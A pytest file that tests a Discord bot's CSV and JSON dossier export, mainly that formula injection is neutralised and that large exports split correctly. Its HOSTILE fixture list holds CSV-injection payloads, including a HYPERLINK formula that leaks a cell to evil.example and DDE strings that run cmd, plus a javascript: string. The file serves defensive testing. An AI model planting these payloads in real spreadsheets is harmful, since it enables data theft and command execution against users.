"""The CSV and JSON dossiers under hostile text: no cell is ever a formula, names in any script
survive, every contribution is a row with its mark and origin, and the JSON is valid whatever members
typed."""

from __future__ import annotations

import csv
import io
import json
import re

import pytest

from bot.errors import InvalidInput
from cogs.research.export import CSV_COLUMNS, Dossier, Person, credits_of, package, render
from tests.domain.test_dossier_seed import seed_dossier
from tests.domain.test_research import entry, sample

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1\nsecond line",
]
SAFE = [
    "Lenin died in 1924.",
    " =not at the start",
    "a=b",
    "Ленин умер в 1924 году",
    "Dzierżyński, Łódź, źdźbło",
    "列宁",
    'quotes "inside", commas, and\nnewlines',
]


def dossier_of(texts: list[str], names: list[str] | None = None) -> Dossier:
    names = names or ["Veles"] * len(texts)
    entries = tuple(
        entry(i, Person(100 + i, name), text, title=text, sources=text)
        for i, (text, name) in enumerate(zip(texts, names, strict=True), 1)
    )
    return Dossier(sample().episode, entries, credits_of(entries))


def read_back(text: str) -> list[dict[str, str]]:
    assert text.startswith("\ufeff")  # UTF-8 with BOM: Excel reads the names right
    data = text.encode("utf-8")
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_no_cell_is_a_formula():
    _, text = render(dossier_of(HOSTILE), "csv")
    rows = read_back(text)
    assert [r["text"] for r in rows] == ["'" + t for t in HOSTILE]
    assert [r["title"] for r in rows] == ["'" + t for t in HOSTILE]
    assert [r["sources"] for r in rows][:2] == ["'" + t for t in HOSTILE[:2]]
    for row in rows:
        for column, value in row.items():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)


def test_hostile_member_names_are_neutralised_too():
    names = ["=cmd()", "@admin", "+33 6 12", "-dash", "Łucja Wąsowska", "Владимир"]
    _, text = render(dossier_of(["x"] * len(names), names), "csv")
    rows = read_back(text)
    assert [r["author_name"] for r in rows] == ["'=cmd()", "'@admin", "'+33 6 12", "'-dash", *names[4:]]


def test_ordinary_text_and_any_script_are_kept_exactly():
    names = ["Veles", "Łucja Wąsowska", "Владимир", "毛", "Zoë", "Ana"]
    _, text = render(dossier_of(SAFE[:6], names), "csv")
    rows = read_back(text)
    assert list(rows[0]) == list(CSV_COLUMNS)
    assert [r["text"] for r in rows] == SAFE[:6]
    assert [r["author_name"] for r in rows] == names
    assert [r["id"] for r in rows] == [str(i) for i in range(1, 7)]
    _, quoted = render(dossier_of(SAFE[6:]), "csv")
    assert [r["text"] for r in read_back(quoted)] == SAFE[6:]


def test_empty_values_are_empty_cells():
    _, text = render(dossier_of(["plain"]), "csv")
    (row,) = read_back(text)
    assert row["edited_at"] == "" and row["reply_to"] == ""


def test_packaged_csv_keeps_the_byte_order_mark():
    name, text = render(dossier_of(SAFE), "csv")
    ((_, data),) = package(name, text, 10**6)
    assert data.startswith(b"\xef\xbb\xbf")


@pytest.mark.parametrize("text", [*HOSTILE, *SAFE, "\x00\x1f\u2028\u2029", "\\", '"', "}]},{"])
def test_json_is_valid_whatever_members_type(text):
    _, out = render(dossier_of([text], [text or "x"]), "json")
    data = json.loads(out)
    (row,) = data["contributions"]
    assert row["text"] == text and row["title"] == text
    assert row["author"]["name"] == (text or "x")


def test_json_entries_carry_the_author_and_link_fields_the_spec_names():
    _, out = render(sample(), "json")
    first = json.loads(out)["contributions"][0]
    assert first["author_id"] == "11" and first["author_name"] == "Veles"
    assert first["link"] == first["url"] == "https://discord.com/channels/1/2/1"
    for key in ("id", "created_at", "text", "sources", "likes", "reply_to", "origin"):
        assert key in first


def test_csv_carries_every_contribution_with_its_mark_and_origin():
    _, text = render(seed_dossier(), "csv")
    rows = read_back(text)
    assert [(r["id"], r["mark"], r["origin"]) for r in rows] == [
        ("1", "key", "thread"),
        ("2", "normal", "thread"),
        ("3", "normal", "thread"),
        ("4", "excluded", "thread"),  # left out of the dossier, kept here with its mark
        ("5", "normal", "forum"),
        ("6", "normal", "form"),
        ("7", "normal", "thread"),
    ]
    assert (rows[4]["author_id"], rows[4]["author_name"]) == ("", "Indy")  # a forum author, no member
    assert rows[0]["sources"].splitlines() == [
        "Service, Robert. Lenin: A Biography. London: Macmillan, 2000. ISBN 0-330-49139-3",
        "https://en.wikipedia.org/wiki/Death_and_state_funeral_of_Vladimir_Lenin?utm_source=forum",
    ]
    assert rows[6]["sources"].startswith("javascript:alert(8)")  # text, never a formula or a link


# -- parts ------------------------------------------------------------------------------------------


def big_dossier(n: int = 60) -> Dossier:
    texts = [
        f"Contribution {i}: Lenin died in 1924; Krupskaya, not Krupska. " + "Veles notes. " * 40
        for i in range(n)
    ]
    return dossier_of(texts, [f"Member {i % 7}" for i in range(n)])


def ids_in(fmt: str, text: str) -> list[int]:
    if fmt == "markdown":
        return [int(i) for i in re.findall(r'^<a id="c(\d+)"></a>$', text, re.M)]
    if fmt == "html":
        return [int(i) for i in re.findall(r'<article id="c(\d+)"', text)]
    if fmt == "json":
        return [c["id"] for c in json.loads(text)["contributions"]]
    return [int(r["id"]) for r in csv.DictReader(io.StringIO(text.removeprefix("\ufeff")))]


@pytest.mark.parametrize("fmt", ["markdown", "html", "json", "csv"])
def test_a_large_dossier_comes_in_parts_each_within_the_limit_holding_everything_once(fmt):
    dossier = big_dossier()
    name, text = render(dossier, fmt)
    limit = len(text.encode()) // 4
    files = package(name, text, limit)
    stem, ext = name.rsplit(".", 1)
    assert len(files) >= 4
    assert [n for n, _ in files] == [f"{stem}-part{i}.{ext}" for i in range(1, len(files) + 1)]
    assert all(len(data) <= limit for _, data in files)
    texts = [data.decode("utf-8") for _, data in files]
    assert [i for t in texts for i in ids_in(fmt, t)] == [e.id for e in dossier.entries]
    m = len(files)
    if fmt == "markdown":
        assert all(
            t.startswith("# 1924-01 · Lenin") and f"**Part {i} of {m}**" in t for i, t in enumerate(texts, 1)
        )
        assert ["## Bibliography" in t and "## Credits" in t for t in texts] == [False] * (m - 1) + [True]
    if fmt == "html":
        assert all(
            f"Part {i} of {m}</p>" in t and t.rstrip().endswith("</html>") for i, t in enumerate(texts, 1)
        )
        assert ['<section id="credits">' in t for t in texts] == [False] * (m - 1) + [True]
    if fmt == "json":
        docs = [json.loads(t) for t in texts]
        assert [(d["part"], d["parts"]) for d in docs] == [(i, m) for i in range(1, m + 1)]
        assert all(d["episode"]["code"] == "1924-01" for d in docs)
        assert ["credits" in d and "bibliography" in d for d in docs] == [False] * (m - 1) + [True]
        assert docs[-1]["credits"] == json.loads(text)["credits"]
    if fmt == "csv":
        assert all(t.startswith("\ufeff" + '"id","created_at"') for t in texts)


def test_a_small_dossier_is_one_file_as_it_is():
    name, text = render(big_dossier(3), "markdown")
    assert package(name, text, 10**6) == [(name, text.encode())]


@pytest.mark.parametrize("fmt", ["markdown", "html", "json", "csv"])
def test_a_contribution_larger_than_a_part_is_cut_visibly_and_kept_whole(fmt):
    huge = "Spartacus wrote about Lenin's funeral in 1924. " * 400
    texts = ["Indy: short one.", huge, "Veles: another short one."]
    entries = tuple(entry(i, Person(100 + i, "Indy"), t, title="Funeral") for i, t in enumerate(texts, 1))
    dossier = Dossier(sample().episode, entries, credits_of(entries))
    name, text = render(dossier, fmt)
    limit = len(text.encode()) // 3
    files = package(name, text, limit)
    texts = [data.decode("utf-8") for _, data in files]
    assert all(len(data) <= limit for _, data in files)
    markers = [i for i, t in enumerate(texts, 1) if re.search(rf"continued.in.part\W+{i + 1}\b", t)]
    assert markers, "the cut is marked"
    if fmt == "json":
        pieces = [c["text"] for t in texts for c in json.loads(t)["contributions"] if c["id"] == 2]
        assert "".join(pieces) == huge
    elif fmt == "csv":
        rows = [r for t in texts for r in csv.DictReader(io.StringIO(t.removeprefix("\ufeff")))]
        pieces = [re.sub(r" … \(continued in part \d+\)$", "", r["text"]) for r in rows if r["id"] == "2"]
        assert "".join(pieces) == huge
    else:
        joined = re.sub(r"\s+", " ", " ".join(texts))
        whole = re.sub(r"\s+", " ", text)
        phrase = "Spartacus wrote about Lenin"
        assert whole.count(phrase) == 400  # only a phrase a cut falls into is broken
        assert 400 - len(markers) <= joined.count(phrase) <= 400


def test_a_limit_too_small_for_any_part_is_refused():
    name, text = render(big_dossier(), "json")
    with pytest.raises(InvalidInput, match="upload limit"):
        package(name, text, 300)


def test_a_limit_too_small_for_any_part_is_refused_saying_what_would_work():
    with pytest.raises(InvalidInput, match="format:csv"):
        package("1924-01-research.html", "<html><head><style>" + "x" * 5000 + "</style></head></html>", 1000)
